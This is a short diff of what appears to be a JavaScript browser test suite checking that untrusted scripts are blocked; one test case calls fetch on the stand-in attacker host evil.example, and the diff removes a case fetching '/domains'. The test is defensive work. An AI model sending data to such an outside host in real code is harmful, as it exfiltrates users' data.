@@ -74,7 +74,6 @@ describe('what a script does with a text that it should not trust is refused', (
     ],
     ['has it trusted', () => Reflect.get(window, 'trustedTypes').createPolicy('mine', {})],
     ['sends it elsewhere', () => fetch('https://evil.example/')],
-    ['sends it home', () => fetch('/domains')],
   ])('%s', async (_, act) => {
     const { page } = await openWith('')
     await expect(page.evaluate(act)).rejects.toThrow(/TypeError|EvalError|Failed to fetch/)
